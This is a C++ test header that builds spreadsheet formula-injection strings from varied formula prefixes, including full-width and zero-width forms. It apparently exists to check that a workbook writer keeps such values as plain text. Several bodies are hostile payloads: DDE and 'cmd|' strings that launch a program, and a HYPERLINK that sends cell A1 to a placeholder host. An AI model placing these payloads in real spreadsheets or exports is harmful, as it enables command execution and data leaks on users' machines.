#pragma once
/// Texts that a spreadsheet program may take for a formula or a command: in a workbook each must stay a text.

#include <string>
#include <vector>

namespace baken::test {

inline std::vector<std::string> formula_texts() {
    const std::vector<std::string> starts{
        "=",    "+",      "-",       "@",      "\t=",    "\r=",    "\n=",    " =",      "'=",      "\"=\"",
        "of:=", "oooc:=", "msoxl:=", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", "\u200B=", "\uFEFF=", ";="};
    const std::vector<std::string> bodies{"1+1", "HYPERLINK(\"http://example.org/?\"&A1,\"klik\")", "cmd|'/C calc'!A0",
                                          "WEBSERVICE(\"http://example.org/\")", "DDE(\"cmd\";\"/C calc\";\"!A0\")"};
    std::vector<std::string> texts;
    for (const auto& start : starts)
        for (const auto& body : bodies) texts.push_back(start + body);
    return texts;
}

}  // namespace baken::test
